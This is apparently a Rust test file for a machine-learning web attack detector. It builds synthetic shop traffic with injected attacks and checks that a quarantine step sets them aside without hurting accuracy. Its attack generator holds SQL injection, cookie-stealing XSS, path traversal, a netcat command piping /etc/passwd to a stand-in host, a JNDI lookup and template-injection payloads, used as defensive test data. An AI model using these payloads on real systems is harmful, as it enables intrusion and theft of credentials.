//! A capture in which attackers were at work: what is set aside, what stays, and what the model is worth afterwards.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::collections::HashSet;
use std::fs;
use std::io::Write as _;
use std::path::Path;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{Value, json};
use weir_features::Extractor;
use weir_scoring::bundle::Bundle;
use weir_scoring::engine::{Engine, EngineOptions, EngineScratch, NoExceptions, Subject};
use weir_scoring::ort::{ExecutionProvider, Runtime};
use weir_scoring::record::{OwnedRequest, RequestRecord};
use weir_train::data::Exposure;
use weir_train::exposure::{ExposureRows, Template};
use weir_train::fit::contamination::{MOST, calibrating, quarantine};
use weir_train::fit::corpus::Corpus;
use weir_train::fit::{Detectors, FitOptions, HeldOut, fit};
use weir_train::progress::{Progress, Stop};
use weir_train::train::{FieldOptions, RequestOptions};

/// One in this many requests of an attacked capture is an attack.
const ATTACK_EVERY: usize = 20;

struct Shop(ChaCha8Rng);

impl Shop {
    fn new(seed: u64) -> Self {
        Self(ChaCha8Rng::seed_from_u64(seed))
    }

    fn word(&mut self) -> String {
        let length = self.0.random_range(3..9);
        (0..length)
            .map(|_| self.0.random_range('a'..='z'))
            .collect()
    }

    fn words(&mut self, most: usize) -> String {
        let count = self.0.random_range(1..=most);
        (0..count)
            .map(|_| self.word())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// A customer's request.
    fn request(&mut self) -> Value {
        let n = self.0.random_range(1..5000);
        match self.0.random_range(0..5) {
            0 => Self::get(&format!(
                "/search?q={}&page={}",
                percent(&self.words(4)),
                n % 9
            )),
            1 => Self::get(&format!("/item/{n}?ref={}", self.word())),
            2 => Self::post(&format!("item={n}&text={}", percent(&self.words(12)))),
            3 => Self::get(&format!(
                "/shelf/{}/{}?sort=price&from={n}",
                self.word(),
                self.word()
            )),
            _ => Self::post(&format!(
                "user={}&mail={}%40{}.example&note={}",
                self.word(),
                self.word(),
                self.word(),
                percent(&format!("It's {}, isn't it? ({n}%)", self.words(5)))
            )),
        }
    }

    /// An attack in a parameter that customers use too, with its payload.
    fn attack(&mut self) -> (Value, String) {
        let (n, word) = (self.0.random_range(1..5000), self.word());
        let payload = match self.0.random_range(0..8) {
            0 => format!("{n}' UNION SELECT {word},password FROM users-- -"),
            1 => format!("{word}' OR '{n}'='{n}' -- "),
            2 => format!("<script>document.location='//{word}.example/?'+document.cookie</script>"),
            3 => format!("\"><img src={word} onerror=alert({n})>"),
            4 => format!("../../../../../../{word}/../etc/passwd"),
            5 => format!("; cat /etc/passwd | nc {word}.example {n}"),
            6 => format!("${{jndi:ldap://{word}.example:{n}/a}}"),
            _ => format!("{{{{{word}.__class__.__mro__[{n}].__subclasses__()}}}}"),
        };
        let encoded = percent(&payload);
        let request = match n % 3 {
            0 => Self::get(&format!("/search?q={encoded}&page=1")),
            1 => Self::get(&format!("/item/{n}?ref={encoded}")),
            _ => Self::post(&format!("item={n}&text={encoded}")),
        };
        (request, payload)
    }

    fn get(uri: &str) -> Value {
        json!({"method": "GET", "uri": uri, "headers": [["Host", "shop.example"], ["User-Agent", "Mozilla/5.0 (X11)"]]})
    }

    fn post(body: &str) -> Value {
        json!({"method": "POST", "uri": "/comment", "body": body, "headers": [["Host", "shop.example"],
            ["User-Agent", "Mozilla/5.0 (X11)"], ["Content-Type", "application/x-www-form-urlencoded"]]})
    }

    /// A capture in time order and the payloads in it.
    fn capture(&mut self, count: usize, attacked: bool) -> (Vec<Value>, HashSet<String>) {
        let mut payloads = HashSet::new();
        let requests = (0..count).map(|i| {
            let mut request = if attacked && i % ATTACK_EVERY == 7 {
                let (request, payload) = self.attack();
                payloads.insert(payload);
                request
            } else {
                self.request()
            };
            request["time"] = json!(1_800_000_000 + i);
            request
        });
        (requests.collect(), payloads)
    }
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
            other => format!("%{other:02X}"),
        })
        .collect()
}

fn owned(requests: &[Value]) -> Vec<OwnedRequest> {
    let parse = |request: &Value| {
        let line = request.to_string();
        RequestRecord::parse(line.as_bytes())
            .unwrap()
            .to_request()
            .unwrap()
    };
    requests.iter().map(parse).collect()
}

/// What is set aside of a capture: values of the rows, and how many rows there are.
fn set_aside(requests: &[Value], with_exposure: bool) -> (Corpus, Vec<u32>) {
    let requests = owned(requests);
    let references: Vec<&OwnedRequest> = requests.iter().collect();
    let corpus = Corpus::extract(&references, None, 2, Progress::Silent, &Stop::default()).unwrap();
    let mut rng = ChaCha8Rng::seed_from_u64(3);
    let wanted = if with_exposure { 4000 } else { 0 };
    let templates: Vec<Template<'_>> = references
        .iter()
        .map(|&request| Template {
            request,
            past: None,
        })
        .collect();
    let made = ExposureRows::generate(
        &templates,
        &Exposure::default(),
        Extractor::shared(),
        &mut rng,
        wanted,
    );
    let attacks = made.unwrap().rows;
    let rows = quarantine(&corpus, attacks.view(), 1);
    (corpus, rows)
}

fn value(corpus: &Corpus, row: u32) -> String {
    let suspect = corpus.facts[row as usize].suspect.as_ref();
    suspect.map_or_else(String::new, |suspect| {
        String::from_utf8_lossy(&suspect.value).into_owned()
    })
}

#[test]
fn frequent_attacks_are_set_aside_and_ordinary_rows_are_not() {
    let (requests, payloads) = Shop::new(1).capture(3000, true);
    let (corpus, rows) = set_aside(&requests, true);
    let values: HashSet<String> = rows.iter().map(|&row| value(&corpus, row)).collect();
    let found = payloads.intersection(&values).count();
    assert!(
        found * 10 >= payloads.len() * 6,
        "{found} of {}",
        payloads.len()
    );
    let wrong: Vec<&String> = values
        .iter()
        .filter(|value| !payloads.contains(*value))
        .collect();
    assert!(
        wrong.len() * 100 <= corpus.facts.len(),
        "{wrong:?} of {}",
        corpus.facts.len()
    );

    // One request in twenty: the held-out part calibrates without them.
    let held_out = vec![true; requests.len()];
    let kept = calibrating(&corpus, &held_out, &rows);
    let dropped = kept.iter().filter(|kept| !**kept).count();
    assert!(dropped > requests.len() / 50, "{dropped}");
}

#[test]
fn without_exposure_dense_code_is_set_aside_however_frequent() {
    let (requests, payloads) = Shop::new(2).capture(2000, true);
    let (corpus, rows) = set_aside(&requests, false);
    assert!(
        rows.len() >= payloads.len() / 5,
        "{} of {}",
        rows.len(),
        payloads.len()
    );
    for row in rows {
        let value = value(&corpus, row);
        assert!(payloads.contains(&value), "{value}");
    }
}

#[test]
fn a_clean_capture_stays_whole_and_calibrates_whole() {
    let (requests, _) = Shop::new(3).capture(2000, false);
    let (corpus, rows) = set_aside(&requests, true);
    assert!(
        rows.len() * 200 <= corpus.facts.len(),
        "{} of {}",
        rows.len(),
        corpus.facts.len()
    );
    let held_out: Vec<bool> = (0..requests.len()).map(|i| i % 5 == 0).collect();
    assert_eq!(calibrating(&corpus, &held_out, &rows), held_out);
}

#[test]
fn a_place_where_code_is_common_is_the_applications_own() {
    let mut shop = Shop::new(4);
    let (mut requests, _) = shop.capture(1000, false);
    for i in 0..200 {
        let query = format!(
            "SELECT {}, count(*) FROM {} WHERE id = {i} GROUP BY 1 ORDER BY 2 -- {}",
            shop.word(),
            shop.word(),
            shop.word()
        );
        requests.push(Shop::get(&format!("/console?sql={}", percent(&query))));
    }
    let (corpus, rows) = set_aside(&requests, true);
    let queries = rows
        .iter()
        .filter(|&&row| value(&corpus, row).starts_with("SELECT"));
    assert_eq!(queries.count(), 0);
    assert!(rows.len() as f64 <= MOST * corpus.facts.len() as f64);
}

fn options(directory: &Path, name: &str) -> FitOptions {
    FitOptions {
        normal: vec![directory.join(format!("{name}.jsonl"))],
        drop_cookies: Vec::new(),
        exposure: vec![directory.join("attacks.jsonl")],
        base: None,
        out: directory.join(name),
        detectors: Detectors::Field,
        field: FieldOptions {
            hidden: vec![24, 8],
            epochs: 1,
            ..FieldOptions::default()
        },
        request: RequestOptions::default(),
        exposure_rows: Some(1500),
        held_out: HeldOut::Time,
        folds: 1,
        quarantine: None,
        onnxruntime: None,
        seed: 1,
        threads: 2,
    }
}

/// Best balanced accuracy on requests that no training saw.
fn balanced_accuracy(bundle: &Path) -> f64 {
    let bundle = Bundle::open(bundle).unwrap();
    let runtime = Runtime::load(None, None).unwrap();
    let options = EngineOptions {
        workers: 1,
        provider: ExecutionProvider::Cpu,
    };
    let engine = Engine::load(runtime, &bundle, &options).unwrap();
    let mut scratch = EngineScratch::default();
    let mut shop = Shop::new(77);
    let mut scores: Vec<(f32, bool)> = Vec::new();
    for i in 0..600 {
        let attack = i % 2 == 1;
        let request = if attack {
            shop.attack().0
        } else {
            shop.request()
        };
        let score = owned(&[request])[0].with_view(|view| {
            let assessment = engine.score(0, &Subject::of(view), &NoExceptions, &mut scratch);
            assessment.unwrap().scores.field.value()
        });
        scores.push((score, attack));
    }
    let share = |attack: bool, above: f32| {
        let of = scores.iter().filter(|(_, is)| *is == attack);
        let count = of.clone().count() as f64;
        of.filter(|(score, _)| *score >= above).count() as f64 / count
    };
    scores
        .iter()
        .map(|(score, _)| (share(true, *score) + 1.0 - share(false, *score)) / 2.0)
        .fold(0.0, f64::max)
}

#[test]
fn a_model_from_an_attacked_capture_is_worth_as_much() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path();
    let mut attacks = fs::File::create(path.join("attacks.jsonl")).unwrap();
    writeln!(
        attacks,
        "{}",
        json!({"payload": "1 AND SLEEP(5)", "attack_class": "sqli", "source": "test"})
    )
    .unwrap();
    let mut accuracies = Vec::new();
    for (name, attacked) in [("clean", false), ("attacked", true)] {
        let (requests, payloads) = Shop::new(5).capture(1600, attacked);
        let lines: Vec<String> = requests.iter().map(Value::to_string).collect();
        fs::write(path.join(format!("{name}.jsonl")), lines.join("\n")).unwrap();
        let report = fit(&options(path, name), Progress::Silent, &Stop::default()).unwrap();
        accuracies.push(balanced_accuracy(&path.join(name)));
        if let (true, Some(file)) = (attacked, report.quarantine) {
            let review = fs::read_to_string(file).unwrap();
            let listed: HashSet<String> = review
                .lines()
                .filter_map(|line| {
                    let line: Value = serde_json::from_str(line).unwrap();
                    Some(line["value"].as_str()?.to_owned())
                })
                .collect();
            let found = payloads.intersection(&listed).count();
            assert!(
                found * 10 >= payloads.len() * 6,
                "{found} of {}",
                payloads.len()
            );
        } else {
            assert!(!attacked, "nothing was set aside");
        }
    }
    let [clean, attacked] = accuracies[..] else {
        panic!("two models")
    };
    assert!(clean > 0.95, "{clean}");
    assert!(attacked > clean - 0.03, "{clean} falls to {attacked}");
}
